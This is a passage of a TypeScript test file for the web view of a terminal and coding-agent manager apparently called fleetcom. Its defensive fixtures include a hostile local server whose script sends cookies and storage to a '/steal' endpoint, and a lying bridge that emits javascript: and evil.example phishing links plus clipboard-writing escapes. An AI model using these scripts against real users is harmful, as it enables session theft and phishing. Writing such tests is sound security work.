    expect(await page.$eval("#task", (t) => (t as HTMLElement).dataset.mode)).toBe("text");
    const seen = await placeOf(page, "MARKER", "END");
    expect(seen).not.toBeNull();
    expect(seen!.fontPx).toBeGreaterThanOrEqual(12);
    expect(seen!.color).toBe("rgb(196, 160, 0)"); // its own yellow (SGR 33)
    expect(seen!.left).toBeGreaterThanOrEqual(0);
    expect(seen!.right).toBeLessThanOrEqual(seen!.viewport.width);
    expect(seen!.top).toBeGreaterThanOrEqual(0);
    expect(seen!.bottom).toBeLessThanOrEqual(seen!.viewport.height);
    expect(seen!.pageWidth).toBeLessThanOrEqual(seen!.viewport.width);
    expect(seen!.box.scroll).toBeLessThanOrEqual(seen!.box.client);
    // The box is whole on the phone: each of its rows one line, its rule and padding given up, not wrapped.
    for (const [from, to] of [
      ["╭", "╮"],
      ["│ >", "│"],
      ["╰", "╯"],
    ] as const) {
      const row = await placeOf(page, from, to);
      expect(row).toMatchObject({ lines: 1 });
      expect(row!.right).toBeLessThanOrEqual(row!.viewport.width);
    }
    expect((await fleet.task(id)).cols).toBe(120); // looking leaves the task's size alone
    mkdirSync(ARTIFACTS, { recursive: true });
    await page.screenshot({ path: join(ARTIFACTS, "web-phone-text-390x844.png") });
  });

  test("a full-screen app is drawn exactly, cell for cell what fleetcom attach shows, box drawing whole", async () => {
    const rule = "─".repeat(98);
    const lines = [`┌${rule}┐`, `│ ${"Allow Bash(rm -rf build)?  1. Yes   2. No, and tell Claude what to do differently".padEnd(97)}│`, `└${rule}┘`];
    const draw = lines.map((l) => `printf '%s\\n' '${l}'`).join("; ");
    const id = await fleet.run(`read x; printf '\\033[?1049h\\033[2J\\033[H'; ${draw}; sleep 600`);
    const terminal = await sizeTask(id, 120, 30);
    await fleet.ok(["send", String(id), "go"]);
    const attached = await terminal.waitForScreen("the app in attach", (s) => s.includes("└"));
    const { url } = await startWeb();
    const page = await openPage(url);
    await openTask(page, id);
    const pageRows = () =>
      page.evaluate(() => {
        const term = (
          window as unknown as {
            fleetcomTerm?: { rows: number; buffer: { active: { getLine(y: number): { translateToString(trim: boolean): string } | undefined } } };
          }
        ).fleetcomTerm;
        if (!term) return [];
        return Array.from({ length: term.rows }, (_, y) => term.buffer.active.getLine(y)?.translateToString(true) ?? "");
      });
    await until("the app on the page", async () => (await pageRows()).some((row) => row.includes("└")));
    const shown = attached.split("\n");
    expect((await pageRows()).slice(0, lines.length)).toEqual(shown.slice(0, lines.length));
    expect(shown.slice(0, lines.length)).toEqual(lines);
    expect(await page.$eval("#task", (t) => (t as HTMLElement).dataset.mode)).toBe("exact");
    expect(await page.$eval("#screen-text", (t) => (t as HTMLElement).hidden)).toBe(true);
    // xterm.js paints its rows on the next animation frame, after the buffer holds the text.
    const painted = lines[1]!.trim().slice(0, 40);
    await until("the app painted in the page's rows", async () => (await page.$eval(".xterm-rows", (rows) => rows.textContent ?? "")).includes(painted));
    mkdirSync(ARTIFACTS, { recursive: true });
    await page.screenshot({ path: join(ARTIFACTS, "web-phone-tui-390x844.png") });
    // The person may ask for the other view; the app's box is then text that wraps.
    await page.click("#mode-button");
    expect(await page.$eval("#task", (t) => (t as HTMLElement).dataset.mode)).toBe("text");
  });

  test("a spent, missing or revoked link gets a page that says so and names fleetcom web --url", async () => {
    await fleet.run("sleep 600");
    const { url, origin } = await startWeb();
    const port = new URL(origin).port;
    const command = `fleetcom web --url --port ${port}`;
    const spent = await openPage(url); // spends it
    const reuse = await browser.createBrowserContext();
    const again = await reuse.newPage();
    await again.setViewport({ width: 390, height: 844, deviceScaleFactor: 2 });
    await again.goto(url);
    await again.waitForSelector("#gate:not([hidden])");
    const said = await again.$eval("#gate", (g) => g.textContent ?? "");
    expect(said).toContain("This link is spent");
    expect(said).toContain(command);
    expect(await again.$$(".card")).toHaveLength(0);
    const raw = await fetch(`${origin}/login`, { method: "POST", headers: { "x-fleetcom-login": new URL(url).searchParams.get("token")!, origin } });
    expect(raw.status).toBe(401);
    expect(await raw.text()).toContain(command);
    await again.goto(`${origin}/`); // no token, no session
    await again.waitForSelector("#gate:not([hidden])");
    expect(await again.$eval("#gate", (g) => g.textContent ?? "")).toMatch(new RegExp(`Not logged in[^]*${command}`));
    await reuse.close();
    await fleet.ok(["web", "--revoke"]);
    await spent.waitForSelector("#gate:not([hidden])");
    expect(await spent.$eval("#gate", (g) => g.textContent ?? "")).toContain(command);
  });

  test("Changes lists an agent's changed files with their counts, a tap shows a file's diff; comments on lines reach the agent as one prompt; read-only has no comment box", async () => {
    const repo = join(fleet.sandbox.root, "app");
    committedRepo(fleet.env, repo, { "a.txt": "a.txt one\n" });
    installFakeAgents(fleet);
    const id = Number(await fleet.ok(["run", "--", "codex"], { cwd: repo }));
    await until("codex ready", async () => (await fleet.peek(id)).includes(" ready"));
    await fleet.waitForTask(id, "its baseline", (t) => t.baseline !== null);
    writeFileSync(join(repo, "a.txt"), "a.txt one\nadded by the agent\n");
    writeFileSync(join(repo, "new.txt"), "n1\nn2\n");
    // A turn's end counts the changes (the fake codex says `working on "TEXT"` once per submitted message, TEXT as JSON).
    await fleet.ok(["send", String(id), "hello"]);
    await fleet.waitForTask(id, "the count at the turn's end", (t) => t.changes?.files === 2);

    const { url } = await startWeb(["--write"]);
    const page = await openPage(url);
    // The counts, after the task's CPU and memory once the page's first sample is in.
    const counted = /^(\d+% · [\d.]+[KMG] · )?\+3 −0 · /.source;
    await page.waitForFunction(
      (task, shape) => new RegExp(shape).test(document.querySelector(`.card[data-task="${task}"] .age`)?.textContent ?? ""),
      {},
      id,
      counted,
    );
    await openTask(page, id);
    await page.click("#changes-button");
    await page.waitForFunction(() => document.querySelectorAll("#changes-files .file").length === 2);
    const files = await page.$$eval("#changes-files .file", (bs) => bs.map((b) => b.textContent));
    expect(files).toEqual(["a.txt+1 −0", "new.txt+2 −0"]);
    expect(await page.$eval("#term", (t) => (t as HTMLElement).hidden)).toBe(true);

    await page.click('#changes-files .file[data-path="a.txt"]');
    await page.waitForSelector('#file-diff [data-line="2"]');
    expect(await page.$eval("#file-diff", (d) => d.textContent)).toContain("+added by the agent");
    // The head line above may grow (the CPU column arrives): the diff must not move under a finger.
    const diffTop = () => page.$eval("#file-diff", (d) => d.getBoundingClientRect().top);
    const before = await diffTop();
    await page.$eval("#task-state", (s) => {
      s.textContent = `${s.textContent} · CPU ▁▂▃▄▅▆▇█ 12% 40 MB`.repeat(3);
    });
    expect(await diffTop()).toBe(before);
    await page.click('#file-diff [data-line="2"]');
    expect(await page.$eval("#review-lines", (p) => p.textContent)).toBe("lines 2 picked");
    await page.type("#review-text", "why this line?");
    await page.click("#review-add");
    await page.click('#changes-files .file[data-path="new.txt"]');
    await page.waitForSelector('#file-diff [data-line="2"]');
    await page.click('#file-diff [data-line="1"]');
    await page.click('#file-diff [data-line="2"]');
    await page.type("#review-text", "and these?");
    await page.click("#review-send");
    await page.waitForFunction(() => document.getElementById("review-queue")?.textContent?.startsWith("2 comments sent"));
    await until("the review's turn", async () => (await fleet.peek(id)).replace(/\n/g, "").split("working on").length === 3);
    // Both comments in the one submitted message, each where it is, its diff fenced, then its text
    // (compared without white space: the screen's rows wrap the line and lose a space at a wrap).
    const prompt = [
      "Review comment on a.txt line 2:\n```diff\n@@ -1 +1,2 @@\n+added by the agent\n```\nwhy this line?",
      "Review comment on new.txt lines 1-2:\n```diff\n@@ -0,0 +1,2 @@\n+n1\n+n2\n```\nand these?",
    ].join("\n\n");
    const unspaced = (text: string) => text.replace(/\s/g, "");
    const turns = unspaced(await fleet.peek(id)).split("workingon");
    expect(turns[2]).toStartWith(unspaced(JSON.stringify(prompt)));

    // Read-only: the files and the diffs, no comment box.
    const readOnly = await startWeb();
    const looker = await openPage(readOnly.url);
    await openTask(looker, id);
    await looker.click("#changes-button");
    await looker.waitForSelector('#changes-files .file[data-path="a.txt"]');
    await looker.click('#changes-files .file[data-path="a.txt"]');
    await looker.waitForSelector('#file-diff [data-line="2"]');
    expect(await looker.$eval("#review", (r) => (r as HTMLElement).hidden)).toBe(true);
    // And the read-only view's server refuses a review sent by hand.
    const raw = rawSocket(readOnly.origin, { session: await sessionOf(looker) });
    expect(await raw.opened).toBe(true);
    raw.ws.send(JSON.stringify({ type: "review", task: id, comments: [{ file: "a.txt", from: 2, to: 2, text: "sneaked" }] }));
    await until("the refusal", () => raw.messages.some((m) => m.type === "error" && m.message?.startsWith("read-only")));
    raw.ws.close();
    expect((await fleet.peek(id)).includes("sneaked")).toBe(false);
  });

  test("Checkpoints lists an agent's checkpoints under Changes; with --write, Rewind asks first and on yes puts the files back; read-only has no button and its server refuses a rewind", async () => {
    const repo = join(fleet.sandbox.root, "app");
    committedRepo(fleet.env, repo, { "a.txt": "one\n" });
    installFakeAgents(fleet);
    const id = Number(await fleet.ok(["run", "--", "claude"], { cwd: repo }));
    const listed = async (count: number) =>
      until(
        `checkpoint ${count - 1}`,
        async () => (JSON.parse(await fleet.ok(["checkpoints", String(id), "--json"])) as { checkpoints: unknown[] }).checkpoints.length >= count,
      );
    /** A prompt sent, its checkpoint taken, and the fake claude's turn over: it waits, so a rewind is not refused as working. */
    const prompt = async (text: string, count: number) => {
      await fleet.ok(["send", String(id), text]);
      await listed(count);
      await fleet.waitForTask(id, "waiting after its turn", (t) => t.attention?.state === "input");
    };
    await listed(1);
    await fleet.waitForTask(id, "its baseline", (t) => t.baseline !== null);
    // Files change only once a prompt's checkpoint is taken: the baseline's snapshot is not awaited by the spawn.
    await prompt("first prompt", 2);
    writeFileSync(join(repo, "a.txt"), "two\n");
    await prompt("second prompt", 3);
    writeFileSync(join(repo, "a.txt"), "three\n");
    writeFileSync(join(repo, "new.txt"), "created after checkpoint 2\n");
    await prompt("third prompt", 4);

    const { url, origin } = await startWeb(["--write"]);
    // The files changed are listed above the checkpoints, from a reply of their own. Here it comes
    // after the checkpoints': the list waits for the files, so its Rewind is drawn once, where it stays
    // (drawn at once, it moved 108 px down when the files came, under a finger about to tap it).
    const page = await openPage(url, checkpointsFirst(false));
    await openTask(page, id);
    await page.click("#changes-button");
    await page.waitForFunction(() => document.querySelectorAll("#checkpoints .checkpoint").length === 4);
    expect(await page.$$eval("#changes-files .file", (files) => files.length)).toBe(2);
    const rewindTops = await page.evaluate(() => (window as unknown as { rewindTops: number[] }).rewindTops);
    const rewindTop = await page.$eval('#checkpoints .checkpoint[data-n="2"] .rewind', (b) => b.getBoundingClientRect().top);
    expect(rewindTops).toEqual([rewindTop]);
    const rows = await page.$$eval("#checkpoints .checkpoint", (rs) => rs.map((r) => [(r as HTMLElement).dataset.n, r.querySelector(".what")?.textContent]));
    expect(rows.map(([n]) => n)).toEqual(["3", "2", "1", "0"]);
    expect(rows[0]![1]).toMatch(/ ago · 2 files · third prompt$/);
    expect(rows[1]![1]).toMatch(/ ago · 1 file · second prompt$/);
    expect(rows[2]![1]).toMatch(/ ago · no code changes · first prompt$/);
    expect(rows[3]![1]).toContain("the start");

    // Asked first: no, and nothing changes; yes, and the tree is as at checkpoint 2.
    const asked: string[] = [];
    page.once("dialog", (dialog) => {
      asked.push(dialog.message());
      dialog.dismiss();
    });
    await page.click('#checkpoints .checkpoint[data-n="2"] .rewind');
    await until("the question", () => asked.length === 1);
    expect(asked[0]).toContain("checkpoint 2 (second prompt)");
    expect(readFileSync(join(repo, "a.txt"), "utf8")).toBe("three\n");
    page.once("dialog", (dialog) => dialog.accept());
    await page.click('#checkpoints .checkpoint[data-n="2"] .rewind');
    await page.waitForFunction(() => document.querySelector("#rewound.ok")?.textContent?.startsWith("rewound task"));
    expect(await page.$eval("#rewound", (r) => r.textContent)).toContain("restore a.txt");
    expect(readFileSync(join(repo, "a.txt"), "utf8")).toBe("two\n");
    expect(existsSync(join(repo, "new.txt"))).toBe(false);
    await page.$eval("#checkpoints-box", (b) => b.scrollIntoView());
    mkdirSync(ARTIFACTS, { recursive: true });
    await page.screenshot({ path: join(ARTIFACTS, "web-checkpoints-390x844.png") });
    // A rewind that cannot be made is answered with why, nothing changed.
    const writer = rawSocket(origin, { session: await sessionOf(page) });
    expect(await writer.opened).toBe(true);
    writer.ws.send(JSON.stringify({ type: "rewind", task: id, n: 99 }));
    await until("the answer", () => writer.messages.some((m) => m.type === "rewound"));
    expect(writer.messages.find((m) => m.type === "rewound")).toMatchObject({ ok: false, text: expect.stringContaining("has no checkpoint 99") });
    writer.ws.close();

    // Read-only: the list, no button; its server refuses a rewind sent by hand.
    writeFileSync(join(repo, "a.txt"), "after the rewind\n");
    const readOnly = await startWeb();
    // Its files' reply fails here: the checkpoints, waiting for it, are shown all the same.
    const looker = await openPage(readOnly.url, checkpointsFirst(true));
    await openTask(looker, id);
    await looker.click("#changes-button");
    await looker.waitForFunction(() => document.querySelectorAll("#checkpoints .checkpoint").length === 4);
    expect(await looker.$eval("#error", (e) => e.textContent)).toContain("no changes here");
    expect(await looker.$$("#checkpoints .rewind")).toHaveLength(0);
    const raw = rawSocket(readOnly.origin, { session: await sessionOf(looker) });
    expect(await raw.opened).toBe(true);
    raw.ws.send(JSON.stringify({ type: "rewind", task: id, n: 2 }));
    await until("the refusal", () => raw.messages.some((m) => m.type === "error" && m.message?.startsWith("read-only")));
    raw.ws.close();
    expect(raw.messages.some((m) => m.type === "rewound")).toBe(false);
    expect(readFileSync(join(repo, "a.txt"), "utf8")).toBe("after the rewind\n");
  });

  test("the read-only page says it is read-only and how to get a link that may type", async () => {
    const id = await fleet.run("sleep 600");
    const { url, origin } = await startWeb();
    const page = await openPage(url);
    await openTask(page, id);
    await page.waitForSelector("#readonly:not([hidden])");
    const said = await page.$eval("#readonly", (r) => r.textContent ?? "");
    expect(said).toStartWith("Read-only");
    expect(said).toContain(`fleetcom web --url --write --port ${new URL(origin).port}`);
    expect(await page.$eval("#controls", (c) => (c as HTMLElement).hidden)).toBe(true);
  });

  test("a web --url --write link types into a task on a view started without --write; a plain link there stays read-only; --revoke ends it", async () => {
    const id = await fleet.run('while read l; do echo "got:$l"; done');
    const { url: plain, origin } = await startWeb();
    const writing = (await fleet.ok(["web", "--url", "--write", "--port", new URL(origin).port])).trim();
    const reader = await openPage(plain);
    await openTask(reader, id);
    expect(await reader.$eval("#controls", (c) => (c as HTMLElement).hidden)).toBe(true);
    const context = await browser.createBrowserContext();
    const page = await context.newPage();
    await page.setViewport({ width: 390, height: 844, deviceScaleFactor: 2 });
    await page.goto(writing);
    await page.waitForSelector(".card");
    await openTask(page, id);
    expect(await page.$eval("#controls", (c) => (c as HTMLElement).hidden)).toBe(false);
    expect(await page.$eval("#readonly", (r) => (r as HTMLElement).hidden)).toBe(true);
    await page.type("#text", "from a writing link");
    await page.click("#send button");
    await until("the writing link's text to reach the task", async () => (await fleet.peek(id)).includes("got:from a writing link"));
    await page.click("#term");
    await page.keyboard.type("typed on the screen\n");
    await until("typing on the screen to reach the task", async () => (await fleet.peek(id)).includes("got:typed on the screen"));
    const session = await sessionOf(page);
    await fleet.ok(["web", "--revoke"]);
    expect(await rawSocket(origin, { session }).opened).toBe(false);
    await context.close();
  });
});

// Another local user's web server on this loopback address (findings: a session cookie, kept per host
// name and not per port, reached it and was replayed against a --write view).
describe.skipIf(!haveChromium || !canCreateUsers())("fleetcom web and another local user's server", () => {
  let attacker: OtherUser;
  beforeAll(() => {
    attacker = createOtherUser("fcweb");
  });
  afterAll(async () => {
    await attacker?.remove();
  });

  test("a page another user serves on 127.0.0.1 gets no credential of the view, and nothing it got opens the --write view", async () => {
    const id = await fleet.run('while read l; do echo "got:$l"; done');
    const { url, origin } = await startWeb(["--write"]);
    const { port, log } = await attackerServer(attacker);
    const context = await browser.createBrowserContext();
    try {
      const page = await context.newPage();
      await page.goto(url);
      await page.waitForSelector(".card");
      const session = await page.evaluate(() => localStorage.getItem("fleetcom-session"));
      // The victim, still logged in, opens the other user's page in the same browser; its script sends back all it can read.
      await page.goto(`http://127.0.0.1:${port}/`);
      await until("the other user's page to report back", () => existsSync(log) && readFileSync(log, "utf8").includes('"/steal?'));
      const seen = readFileSync(log, "utf8");
      if (session !== null) expect(seen).not.toContain(session);
      // Whatever it got, replayed against the view the way the page's own script reaches it.
      const material = [...new Set(seen.match(/[\w-]{20,}/g) ?? [])];
      const replays: string[] = [];
      for (const value of material) {
        const tries = { cookie: rawSocket(origin, { headers: { cookie: `fleetcom_session=${value}` } }), session: rawSocket(origin, { session: value }) };
        for (const [how, socket] of Object.entries(tries)) {
          if (!(await socket.opened)) continue;
          replays.push(`${how} ${value}`);
          socket.ws.send(JSON.stringify({ type: "send", task: id, text: "REPLAYED" }));
        }
      }
      expect(replays).toEqual([]);
      // The check itself reaches the view: the page's own session, kept where only its origin reads it, opens it.
      expect(session).not.toBeNull();
      expect(await rawSocket(origin, { session: session! }).opened).toBe(true);
      await fleet.ok(["send", String(id), "after"]);
      await until("the task's own line", async () => (await fleet.peek(id)).includes("got:after"));
      expect(await fleet.peek(id)).not.toContain("REPLAYED");
    } finally {
      await context.close();
    }
  });
});

/**
 * An HTTP server run as `user` on 127.0.0.1 (python3): it logs every request's path and headers, one
 * JSON line each, and its page sends back what its script can read (cookies, this origin's storage).
 */
async function attackerServer(user: OtherUser): Promise<{ port: number; log: string }> {
  const dir = join(user.shared, "attacker");
  mkdirSync(dir, { mode: 0o700 });
  Bun.spawnSync(["chown", `${user.uid}:${user.gid}`, dir]);
  const log = join(dir, "requests.log");
  const script = join(user.shared, "server.py");
  writeFileSync(
    script,
    `import http.server, json, sys
port, log = int(sys.argv[1]), sys.argv[2]
PAGE = b"""<!doctype html><script>
fetch('/steal?' + new URLSearchParams({ cookie: document.cookie, storage: JSON.stringify(Object.assign({}, localStorage, sessionStorage)) }));
</script>"""
class Logger(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(log, "a") as f:
            f.write(json.dumps({"path": self.path, "headers": dict(self.headers)}) + "\\n")
        body = PAGE if self.path == "/" else b"ok"
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
http.server.ThreadingHTTPServer(("127.0.0.1", port), Logger).serve_forever()
`,
  );
  const port = await freePort();
  user.spawn(["/usr/bin/python3", script, String(port), log]);
  await until("the other user's server to listen", async () => (await fetch(`http://127.0.0.1:${port}/ready`).catch(() => null))?.ok);
  return { port, log };
}

/** The status an HTTP/1.1 request written as is (its Host too) gets from 127.0.0.1:port. */
async function rawHttp(port: number, request: string): Promise<number> {
  let answer = "";
  const { promise, resolve } = Promise.withResolvers<void>();
  const socket = await Bun.connect({
    hostname: "127.0.0.1",
    port,
    socket: {
      data: (_s, bytes) => void (answer += bytes.toString()),
      close: () => resolve(),
      error: () => resolve(),
    },
  });
  socket.write(request);
  await promise;
  return Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1] ?? 0);
}

/**
 * A hostile host's "fleetcom bridge" (python3, run by the host's user): a welcome as the real one
 * gives, one task, and for attach and redraw a screen with OSC 8 links (https: and javascript:), a
 * title, a clipboard write and queries, as a remote that lies would send it.
 */
const HOSTILE_BRIDGE = `#!/usr/bin/python3
import json, struct, sys
inp, out = sys.stdin.buffer, sys.stdout.buffer
def frame(payload, kind=1):
    body = json.dumps(payload).encode() if kind == 1 else payload
    out.write(struct.pack(">IB", len(body), kind) + body)
    out.flush()
def read():
    head = inp.read(5)
    if len(head) < 5:
        sys.exit(0)
    size, kind = struct.unpack(">IB", head)
    return kind, inp.read(size)
TASK = {"id": 1, "run": 1, "command": "cat", "typed": "cat", "name": "lure", "group": None, "cwd": "/", "tagged": False, "state": "running",
        "idle": False, "exitCode": None, "signal": None, "pid": 1, "startedAt": "2026-01-01T00:00:00Z", "endedAt": None, "lastOutputAt": None,
        "preview": "lure", "agent": None, "conversation": None, "attention": None, "worktree": None, "cols": 80, "rows": 24}
SCREEN = ("\\x1b[H\\x1b[2JHOSTILE SCREEN \\x1b]8;;javascript:document.title='HOSTILE-JS'\\x07CLICK-JS\\x1b]8;;\\x07 "
          "\\x1b]8;;https://evil.example/phish\\x07CLICK-HTTP\\x1b]8;;\\x07 \\x1b]0;HOSTILE-TITLE\\x07\\x1b]52;c;SE9TVElMRQ==\\x07\\x1b[6n end")
_, hello = read()
hello = json.loads(hello)
frame({"type": "welcome", "protocol": hello["protocol"], "version": hello["version"], "pid": 1, "socket": "/nonexistent/evil.sock", "instance": "evil"})
while True:
    kind, body = read()
    if kind != 1:
        continue
    m = json.loads(body)
    if m.get("type") != "request":
        continue
    op = m.get("op")
    if op in ("ls", "subscribe"):
        frame({"type": "reply", "id": m["id"], "ok": True, "result": [TASK]})
    elif op == "status":
        frame({"type": "reply", "id": m["id"], "ok": True, "result": {"crash": None}})
    elif op in ("attach", "redraw"):
        frame({"type": "reply", "id": m["id"], "ok": True, "result": TASK if op == "attach" else None})
        frame({"type": "screen"})
        frame(SCREEN.encode(), 2)
    else:
        frame({"type": "reply", "id": m["id"], "ok": False, "error": "no"})
`;

/**
 * A host's "fleetcom bridge" (python3) that counts the connections being opened at once: each marks
 * itself in DIR until its first request is answered, and writes how many were marked when it began;
 * it waits a second before its welcome, as a slow host does. Its fleet is 12 tasks of group `g`,
 * each of which `logs` answers with one line and the task's end (exit 0), then the connection ends.
 */
const COUNTING_BRIDGE = `#!/usr/bin/python3
import json, os, struct, sys, time
DIR = os.path.join(os.path.dirname(os.path.abspath(__file__)), "opens")
os.makedirs(DIR, exist_ok=True)
mark = os.path.join(DIR, "open.%d" % os.getpid())
open(mark, "w").close()
with open(os.path.join(DIR, "..", "seen"), "a") as seen:
    seen.write("%d\\n" % len([n for n in os.listdir(DIR) if n.startswith("open.")]))
inp, out = sys.stdin.buffer, sys.stdout.buffer
def frame(payload, kind=1):
    body = json.dumps(payload).encode() if kind == 1 else payload
    out.write(struct.pack(">IB", len(body), kind) + body)
    out.flush()
def read():
    head = inp.read(5)
    if len(head) < 5:
        sys.exit(0)
    size, kind = struct.unpack(">IB", head)
    return kind, inp.read(size)
def task(i):
    return {"id": i, "run": 1, "command": "cat", "typed": "cat", "name": "t%d" % i, "group": "g", "cwd": "/", "tagged": False, "state": "running",
            "idle": False, "exitCode": None, "signal": None, "pid": 1, "startedAt": "2026-01-01T00:00:00Z", "endedAt": None, "lastOutputAt": None,
            "preview": "", "agent": None, "conversation": None, "attention": None, "worktree": None, "cols": 80, "rows": 24}
_, hello = read()
hello = json.loads(hello)
time.sleep(1)
frame({"type": "welcome", "protocol": hello["protocol"], "version": hello["version"], "pid": 1, "socket": "/nonexistent/counting.sock", "instance": "counting"})
while True:
    kind, body = read()
    m = json.loads(body) if kind == 1 else {}
    if m.get("type") != "request":
        continue
    if os.path.exists(mark):
        os.unlink(mark)
    if m.get("op") == "ls":
        frame({"type": "reply", "id": m["id"], "ok": True, "result": [task(i) for i in range(1, 13)]})
    elif m.get("op") == "logs":
        frame({"type": "reply", "id": m["id"], "ok": True, "result": {"kept": True, "info": task(m["args"]["task"]["id"])}})
        frame(("line of task %d\\n" % m["args"]["task"]["id"]).encode(), 2)
        # The task ends with 0, as a daemon says it (logs -f ends with the task's code).
        frame({"type": "attach-end", "reason": "exited", "task": dict(task(m["args"]["task"]["id"]), state="exited", exitCode=0)})
        sys.exit(0)
    else:
        frame({"type": "reply", "id": m["id"], "ok": False, "error": "no"})
`;

// One sshd and one `hosts add` for the describe (the upload is the slow part): a second local user is
// the remote host (test/harness/sshd.ts), beside a host whose port refuses and one that never answers.
describe.skipIf(!canReachHosts)("fleetcom web with hosts over OpenSSH", () => {
  let server: SshServer;
  let here: Fleet;
  let sshConfig = "";

  beforeAll(async () => {
    here = new Fleet();
    server = await startSshServer(join(here.sandbox.root, "ssh"), here.sandbox.home);
    sshConfig = server.config;
    mkdirSync(here.sandbox.config, { recursive: true, mode: 0o700 });
    writeFileSync(join(here.sandbox.config, "config.toml"), `ssh_command = "ssh -F ${sshConfig}"\n`);
    await sharingPack(here.sandbox.home, () => here.ok(["hosts", "add", "remote1"]));
    const config = join(here.sandbox.config, "config.toml");
    writeFileSync(
      config,
      `${readFileSync(config, "utf8")}\n[hosts.down]\nssh = "refused"\nhome = "/nowhere"\n\n[hosts.mute]\nssh = "silent"\nhome = "/nowhere"\n`,
    );
  }, 300_000);

  afterAll(async () => {
    Bun.spawnSync(["ssh", "-F", sshConfig, "-o", `ControlPath=${here.sandbox.runtime}/ssh-%C`, "-O", "exit", "remote1"], {
      stdout: "ignore",
      stderr: "ignore",
    });
    await here?.stop();
    await server?.stop();
  });

  test("the page lists this machine's fleet, then each host's by group, an unreachable host as one line; a remote task's screen, typing and history go to its host", async () => {
    const local = await here.run('while read l; do echo "here:$l"; done', ["--name", "near", "--group", "api"]);
    const remote = Number(
      (await here.ok(["--host", "remote1", "run", "--name", "far", "--group", "train", "--", 'while read l; do echo "far:$l"; done'])).trim(),
    );
    const asker = Number((await here.ok(["--host", "remote1", "run", "--name", "asks", "--", "printf 'ring\\a'; exec cat"])).trim());
    // mute never answers: its bound is long, and the rest of the fleet is listed while it is still being waited for.
    const { url } = await startWeb(["--write"], { env: { ...here.env, FLEETCOM_HOST_TIMEOUT_MS: "600000" }, home: here.sandbox.home });
    const page = await openPage(url);
    const listing = () =>
      page.$$eval("#fleet > h2, #fleet > .note, #fleet > .card", (els) =>
        els.map((e) => (e.classList.contains("card") ? `card ${(e as HTMLElement).dataset.host ?? "-"}:${(e as HTMLElement).dataset.task}` : e.textContent)),
      );
    await until("remote1's fleet and down's line on the page", async () => {
      const shown = await listing();
      return shown.includes(`card remote1:${remote}`) && shown.includes("Waiting (1)") && shown.some((l) => l?.startsWith("down is unreachable"))
        ? shown
        : undefined;
    });
    const shown = await listing();
    // A remote task that waits is on top, as this machine's would be, and counted in the title.
    expect(shown.slice(0, 2)).toEqual(["Waiting (1)", `card remote1:${asker}`]);
    expect(await page.title()).toBe("(1) fleetcom");
    expect(shown.slice(2, 6)).toEqual(["this machine · api (1)", `card -:${local}`, "remote1 · train (1)", `card remote1:${remote}`]);
    expect(shown.slice(6, 8)).toEqual(["down", expect.stringMatching(/^down is unreachable: ssh: connect to host 127\.0\.0\.1 port \d+: Connection refused$/)]);
    expect(shown.slice(8)).toEqual(["mute", "connecting…"]);
    // Viewing and typing reach the remote task, not this machine's of the same id.
    await tapCard(page, `.card[data-host="remote1"][data-task="${remote}"]`);
    await page.waitForSelector(".xterm-rows");
    expect(await page.$eval("#task-title", (t) => t.textContent)).toBe(`remote1:${remote} far`);
    await page.click("#term");
    await page.keyboard.type("typed far away\n");
    await until("the typing to reach the remote task", async () => (await here.peek(`remote1:${remote}`)).includes("far:typed far away"));
    await until("the page's screen to follow it", async () => (await pageScreen(page)).includes("far:typed far away"));
    await page.type("#text", "sent far away");
    await page.click("#send button");
    await until("the form's text to reach the remote task", async () => (await here.peek(`remote1:${remote}`)).includes("far:sent far away"));
    expect(await here.peek(local)).not.toContain("far away");
    await page.click("#history-button");
    await page.waitForFunction(() => document.getElementById("history")?.textContent?.includes("far:sent far away"));
    expect(await page.$eval("#history", (h) => h.textContent)).toBe((await here.ok(["peek", `remote1:${remote}`, "--history"])).replace(/\n$/, ""));
    await here.ok(["kill", `remote1:${remote}`, `remote1:${asker}`]);
    await here.ok(["kill", String(local)]);

    // Stopped politely while mute is still being connected to, the web view ends that ssh: it used to
    // run on, orphaned, until its connect gave up (here: never).
    // The web view's own ssh, a child of it: the daemon keeps links of its own to hosts (for pushes).
    const web = servers.at(-1)!;
    const webSsh = sshProcesses("silent", here.sandbox.runtime).filter((pid) => parentOf(pid) === web.pid);
    expect(webSsh).toHaveLength(1);
    expect(await stopWeb(servers.pop()!)).toBe(0);
    await until("the ssh to mute ended", () => !existsSync(`/proc/${webSsh[0]}`));
  }, 180_000);

  test("a host whose ssh link is killed is one line on the page until the web view is back on it, by itself", async () => {
    const remote = Number((await here.ok(["--host", "remote1", "run", "--name", "steady", "--", "echo steady; exec cat"])).trim());
    const { url } = await startWeb([], { env: { ...here.env, FLEETCOM_HOST_TIMEOUT_MS: "60000" }, home: here.sandbox.home });
    const page = await openPage(url);
    await page.waitForSelector(`.card[data-host="remote1"][data-task="${remote}"]`);
    // Every note the page ever shows, however briefly (the page redraws the fleet on each change).
    await page.evaluate(() => {
      const w = window as unknown as { notes: string[] };
      w.notes = [];
      new MutationObserver(() => {
        for (const note of document.querySelectorAll("#fleet > .note")) w.notes.push(note.textContent ?? "");
      }).observe(document.getElementById("fleet")!, { childList: true });
    });
    const master = Bun.spawnSync(["ssh", "-F", sshConfig, "-o", `ControlPath=${here.sandbox.runtime}/ssh-%C`, "-O", "check", "remote1"], { stderr: "pipe" });
    const pid = Number(/pid=(\d+)/.exec(master.stderr.toString())?.[1]);
    expect(pid).toBeGreaterThan(0);
    process.kill(pid, "SIGKILL");
    const notes = () => page.evaluate(() => (window as unknown as { notes: string[] }).notes);
    await until("remote1's line on the page", async () => (await notes()).some((n) => n.startsWith("remote1 is unreachable")));
    await page.waitForSelector(`.card[data-host="remote1"][data-task="${remote}"]`);
    expect(await page.$$eval("#fleet > .note", (shown) => shown.map((n) => n.textContent))).not.toContainEqual(expect.stringMatching(/^remote1/));
    await here.ok(["kill", `remote1:${remote}`]);
  });
  test("a burst of 320 view messages from 8 read-only pages, with no forward to the host, starts a bounded number of ssh and bridges; each page gets its newest", async () => {
    const tasks: number[] = [];
    for (let i = 0; i < 4; i++)
      tasks.push(Number((await here.ok(["--host", "remote1", "run", "--name", `burst${i}`, "--", `echo burst${i}; exec cat`])).trim()));
    const { url, origin } = await startWeb([], { env: { ...here.env, FLEETCOM_HOST_TIMEOUT_MS: "60000" }, home: here.sandbox.home });
    const { session } = await logIn(origin, new URL(url).searchParams.get("token")!);
    const pages = await Promise.all(
